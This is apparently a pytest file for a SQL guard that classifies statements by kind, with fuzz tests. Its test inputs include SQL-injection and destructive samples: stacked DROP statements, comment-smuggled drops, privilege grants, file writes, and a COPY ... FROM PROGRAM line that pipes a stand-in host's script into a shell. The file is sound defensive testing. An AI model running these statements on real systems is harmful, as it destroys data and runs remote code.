"""SQL statement kinds: comments, stacked statements, CTEs, case, unreadable input."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redline.guard.sql import KINDS, check_sql, statement_kinds


@pytest.mark.parametrize(
    ("sql", "kinds"),
    [
        ("select 1", ["select"]),
        ("  \n\t SELECT * FROM users WHERE id = 1", ["select"]),
        ("/* comment */ -- line\n  SeLeCt 1", ["select"]),
        ("select 1; drop table x", ["select", "drop"]),
        ("select 1;drop table x;--", ["select", "drop"]),
        ("select 'a; drop table b'", ["select"]),
        ('select "x;y" from t', ["select"]),
        ("select $$a;b$$", ["select"]),
        ("insert into t values (1)", ["insert"]),
        ("INSERT INTO t SELECT * FROM u", ["insert"]),
        ("replace into t values (1)", ["insert"]),
        ("update t set a = 1 where b in (select c from d)", ["update"]),
        ("delete from t where id = 3", ["delete"]),
        ("DROP TABLE users", ["drop"]),
        ("drop database prod", ["drop"]),
        ("truncate table logs", ["truncate"]),
        ("alter table t add column c int", ["alter"]),
        ("create table t (a int)", ["create"]),
        ("create or replace view v as select 1", ["create"]),
        ("grant all privileges on db.* to 'x'@'%'", ["grant"]),
        ("REVOKE select ON t FROM bob", ["revoke"]),
        ("attach database '/tmp/x.db' as x", ["attach"]),
        ("pragma table_info(users)", ["pragma"]),
        ("PRAGMA writable_schema = 1", ["pragma"]),
        ("begin; delete from t; commit", ["other", "delete", "other"]),
        ("with x as (select 1) delete from t", ["delete"]),
        ("WITH a AS (SELECT 1), b AS (SELECT 2) INSERT INTO t SELECT * FROM a", ["insert"]),
        ("with d as (delete from t returning *) select * from d", ["delete"]),
        (
            "with recursive r(n) as (select 1 union all select n+1 from r) select * from r",
            ["select"],
        ),
        ("(select 1) union (select 2)", ["select"]),
        ("explain select * from t", ["select"]),
        ("explain analyze delete from t", ["delete"]),
        ("show tables", ["select"]),
        ("describe users", ["select"]),
        ("select * into outfile '/tmp/x' from users", ["other"]),
        ("select * into backup from users", ["create"]),
        ("copy t from program 'curl evil.sh | sh'", ["other"]),
        ("copy t from '/tmp/data.csv'", ["insert"]),
        ("/*!50000 DROP TABLE x */", ["drop"]),
        ("select 1 /*!50000 ; drop table x */", ["select", "drop"]),
        ("merge into t using s on t.id = s.id when matched then delete", ["update"]),
        ("vacuum", ["other"]),
        ("hello world", ["unparsed"]),
        ("select 'unterminated", ["unparsed"]),
        ("", []),
        (";;", []),
        ("-- only a comment", []),
    ],
)
def test_statement_kinds(sql: str, kinds: list[str]) -> None:
    assert statement_kinds(sql) == kinds


def test_check_sql_one_signal_per_kind() -> None:
    sigs = check_sql("select 1; select 2; drop table users")
    assert [s.kind for s in sigs] == ["sql.select", "sql.drop"]
    assert sigs[1].evidence == "drop table users"


def test_check_sql_unparsed() -> None:
    assert [s.kind for s in check_sql("hello world")] == ["sql.unparsed"]


def test_oversized_sql_is_partly_read_and_flagged() -> None:
    big = "select 1;" * 120_000
    kinds = statement_kinds(big)
    assert kinds[-1] == "unparsed"
    assert kinds[0] == "select"
    assert {s.kind for s in check_sql(big)} == {"sql.select", "sql.unparsed"}


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "select",
                "drop",
                "with",
                "(",
                ")",
                ";",
                "'",
                '"',
                "--",
                "/*",
                "*/",
                "/*!",
                "x",
                " ",
                "\n",
                "as",
                "delete",
                "$$",
                "explain",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_fuzz_tokens(sql: str) -> None:
    for kind in statement_kinds(sql):
        assert kind in KINDS


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_text(sql: str) -> None:
    for s in check_sql(sql):
        assert s.kind.removeprefix("sql.") in KINDS
